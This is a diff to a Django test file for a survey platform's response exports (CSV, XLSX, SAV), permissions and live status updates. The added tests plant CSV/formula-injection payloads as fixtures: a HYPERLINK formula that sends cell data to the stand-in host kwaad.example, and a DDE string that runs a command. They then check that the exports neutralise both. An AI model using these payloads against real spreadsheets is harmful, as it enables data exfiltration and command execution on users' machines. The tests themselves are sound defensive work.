@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import csv
 import io
 import struct
@@ -14,10 +15,12 @@ import pytest
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from burgerlink.core.models import AuditEvent, Organisation, User
-from burgerlink.surveys.models import Export, ExportStatus, Response, Wave
-from burgerlink.surveys.results import exports, selectors, services
-from burgerlink.surveys.results.sav import SYSMIS, SavVariable, SavWriter, spss_date
+from burgerlink.core.exports import jobs
+from burgerlink.core.exports.sav import SYSMIS, SavVariable, SavWriter, spss_date
+from burgerlink.core.models import AuditEvent, Export, ExportStatus, Organisation, User
+from burgerlink.core.permissions import Perm, has_perm
+from burgerlink.surveys.models import Answer, QuestionnaireVersion, Response, Wave
+from burgerlink.surveys.results import exports, selectors
 from tests.conftest import client_for
 
 BASE = "/medewerkers/amstelstad/onderzoek/resultaten/"
@@ -28,12 +31,25 @@ def request(client_user: User, wave: Wave, file_format: str) -> Export:
         f"{BASE}{wave.pk}/exporteren/", {"formaat": file_format}
     )
     assert response.status_code == 302
-    return Export.objects.filter(wave=wave, file_format=file_format).latest("id")
+    return Export.objects.filter(subject=str(wave.pk), file_format=file_format).latest("id")
+
+
+def new_export(wave: Wave, file_format: str, **extra: object) -> Export:
+    """A queued export of the wave's responses, made without the page."""
+    return Export.objects.create(
+        organisation=wave.organisation,
+        kind=exports.RESPONSES,
+        subject=str(wave.pk),
+        file_format=file_format,
+        rows_total=3,
+        **extra,
+    )
 
 
 def download(user: User, export: Export) -> bytes:
     response = client_for(user).get(f"{BASE}exports/{export.pk}/download/")
     assert response.status_code == 200
+    assert response["Cache-Control"] == "no-store"  # response-level data: never cached
     return b"".join(response.streaming_content)  # type: ignore[attr-defined]
 
 
@@ -151,12 +167,7 @@ def test_weights_are_exported(life_event_wave: Wave, bram_researcher: User, tmp_
 
 
 def test_progress_is_stored_chunk_by_chunk(small_wave: Wave, bram_researcher: User) -> None:
-    export = Export.objects.create(
-        wave=small_wave,
-        organisation=small_wave.organisation,
-        file_format="csv",
-        rows_total=3,
-    )
+    export = new_export(small_wave, "csv")
     seen: list[int] = []
     plan = exports.plan_export(small_wave, selectors.wave_catalogue(small_wave))
     exports.write_export(
@@ -167,24 +178,17 @@ def test_progress_is_stored_chunk_by_chunk(small_wave: Wave, bram_researcher: Us
         chunk=1,
     )
     assert seen == [1, 2, 3]
-    services.run_export(export.pk)
+    jobs.run_export(export.pk)
     export.refresh_from_db()
     assert export.rows_done == 3
     assert export.status == ExportStatus.DONE
-    assert services.run_export(export.pk) is None  # runs once
+    assert jobs.run_export(export.pk) is None  # runs once
 
 
 def test_the_page_shows_progress_and_the_download_link(
     small_wave: Wave, bram_researcher: User
 ) -> None:
-    running = Export.objects.create(
-        wave=small_wave,
-        organisation=small_wave.organisation,
-        file_format="sav",
-        status=ExportStatus.RUNNING,
-        rows_done=2,
-        rows_total=3,
-    )
+    running = new_export(small_wave, "sav", status=ExportStatus.RUNNING, rows_done=2)
     done = request(bram_researcher, small_wave, "csv")
     html = client_for(bram_researcher).get(f"{BASE}{small_wave.pk}/").content.decode()
     assert "2 van 3 responsen" in html
@@ -196,15 +200,13 @@ def test_the_page_shows_progress_and_the_download_link(
 
 
 def test_a_failed_export_says_why(small_wave: Wave, monkeypatch: pytest.MonkeyPatch) -> None:
-    export = Export.objects.create(
-        wave=small_wave, organisation=small_wave.organisation, file_format="csv", rows_total=3
-    )
+    export = new_export(small_wave, "csv")
 
     def broken(*_args: object, **_kwargs: object) -> int:
         raise RuntimeError("schijf vol")
 
-    monkeypatch.setattr(exports, "write_export", broken)
-    result = services.run_export(export.pk)
+    monkeypatch.setattr(jobs, "write_table", broken)
+    result = jobs.run_export(export.pk)
     assert result is not None
     assert result.status == ExportStatus.FAILED
     assert result.error == "schijf vol"
@@ -229,8 +231,111 @@ def test_an_export_of_an_empty_wave_is_refused(
         f"{BASE}{small_wave.pk}/exporteren/", {"formaat": "csv"}, follow=True
     )
     assert "nog geen ingevulde vragenlijsten" in response.content.decode()
-    assert not Export.objects.filter(wave=small_wave).exists()
+    assert not Export.objects.filter(subject=str(small_wave.pk)).exists()
     assert client_for(bram_researcher).get(f"{BASE}{small_wave.pk}/exporteren/").status_code == 405
+
+
+# --- formulas, roles and the status that updates itself ---------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik hier")'
+AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def plant_formulas(wave: Wave) -> None:
+    """Formulas in an open answer, a sample value and two question texts; a negative number."""
+    version = QuestionnaireVersion.objects.get(pk=wave.version_id)
+    definition = copy.deepcopy(version.definition)
+    for question in definition["pages"][0]["questions"]:
+        if question["code"] == "OPEN_GOOD":
+            question["text"] = {"nl": "=1+1 Wat ging goed?", "en": "=1+1 What went well?"}
+        if question["code"] == "WEEKS":
+            question["text"] = {"nl": "@SUM(A1:A9)", "en": "@SUM(A1:A9)"}
+    QuestionnaireVersion.objects.filter(pk=version.pk).update(definition=definition)
+    Answer.objects.filter(response__wave=wave, code="OPEN_GOOD").update(text=HYPERLINK)
+    first = completed_responses(wave)[0]
+    first.background = {**first.background, "wijk": AT_SUM}
+    first.save(update_fields=["background"])
+    Answer.objects.filter(response__wave=wave, code="WEEKS", number=2.5).update(number=-2.5)
+    selectors.clear_cache()
+
+
+def completed_responses(wave: Wave) -> list[Response]:
+    return list(Response.objects.filter(wave=wave, status="completed").order_by("id"))
+
+
+def test_csv_export_neutralises_formulas_in_answers_and_samples(
+    small_wave: Wave, bram_researcher: User
+) -> None:
+    plant_formulas(small_wave)
+    export = request(bram_researcher, small_wave, "csv")
+    assert export.status == ExportStatus.DONE, export.error
+    data = download(bram_researcher, export).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(data)))
+    assert rows[0]["OPEN_GOOD"] == "'" + HYPERLINK
+    assert rows[0]["sample_wijk"] == "'" + AT_SUM
+    assert rows[2]["WEEKS"] == "-2.5"  # a number stays a number, minus sign and all
+    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row.values())
+
+
+def test_xlsx_export_neutralises_formulas_in_answers_and_question_texts(
+    small_wave: Wave, bram_researcher: User
+) -> None:
+    plant_formulas(small_wave)
+    export = request(bram_researcher, small_wave, "xlsx")
+    assert export.status == ExportStatus.DONE, export.error
+    book = load_workbook(io.BytesIO(download(bram_researcher, export)))
+    sheet = book["Antwoorden"]
+    header = [cell.value for cell in sheet[1]]
+    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert first["OPEN_GOOD"].value == "'" + HYPERLINK
+    assert first["OPEN_GOOD"].data_type == "s"
+    assert first["sample_wijk"].value == "'" + AT_SUM
+    third = {name: cell.value for name, cell in zip(header, sheet[4], strict=True)}
+    assert third["WEEKS"] == -2.5
+    labels = {row[0]: row[1] for row in book["Variabelen"].iter_rows(values_only=True)}
+    assert labels["OPEN_GOOD"] == "'=1+1 Wat ging goed?"
+    assert labels["WEEKS"] == "'@SUM(A1:A9)"
+    for worksheet in book.worksheets:
+        assert not any(cell.data_type == "f" for row in worksheet.iter_rows() for cell in row)
+
+
+def test_communications_see_aggregates_but_get_no_response_level_exports(
+    small_wave: Wave, bram_researcher: User, carla_comms: User, amstelstad: Organisation
+) -> None:
+    assert not has_perm(carla_comms, Perm.EXPORT_SURVEY_RESPONSES, amstelstad)
+    assert has_perm(carla_comms, Perm.VIEW_SURVEY_RESULTS, amstelstad)
+    client = client_for(carla_comms)
+    page = client.get(f"{BASE}{small_wave.pk}/")
+    assert page.status_code == 200  # the aggregated results
+    html = page.content.decode()
+    assert "Export maken" not in html and "/exporteren/" not in html and "htmx" not in html
+    assert client.post(f"{BASE}{small_wave.pk}/exporteren/", {"formaat": "csv"}).status_code == 403
+    assert client.get(f"{BASE}{small_wave.pk}/exports/").status_code == 403
+    export = request(bram_researcher, small_wave, "csv")
+    assert client.get(f"{BASE}exports/{export.pk}/download/").status_code == 403
+    assert Export.objects.count() == 1
+    assert not AuditEvent.objects.filter(actor=carla_comms, action__startswith="survey.export")
+
+
+def test_the_export_status_updates_itself_while_an_export_runs(
+    small_wave: Wave, bram_researcher: User
+) -> None:
+    running = new_export(small_wave, "sav", status=ExportStatus.RUNNING, rows_done=2)
+    client = client_for(bram_researcher)
+    html = client.get(f"{BASE}{small_wave.pk}/").content.decode()
+    status_url = f"{BASE}{small_wave.pk}/exports/"
+    assert f'hx-get="{status_url}"' in html and 'hx-trigger="every 2s"' in html
+    assert '<script src="/static/vendor/htmx/htmx.min.js" defer></script>' in html
+    fragment = client.get(status_url)
+    assert fragment.status_code == 200
+    assert fragment["Cache-Control"] == "no-store"
+    body = fragment.content.decode()
+    assert body.lstrip().startswith('<div id="export-status"')  # only the list, for htmx
+    assert "2 van 3 responsen" in body and f'hx-get="{status_url}"' in body
+    Export.objects.filter(pk=running.pk).update(status=ExportStatus.FAILED, error="schijf vol")
+    body = client.get(status_url).content.decode()
+    assert "hx-get" not in body  # nothing runs any more: the page stops asking
+    assert "Mislukt: schijf vol" in body
 
 
 # --- the .sav writer on its own ---------------------------------------------------------------
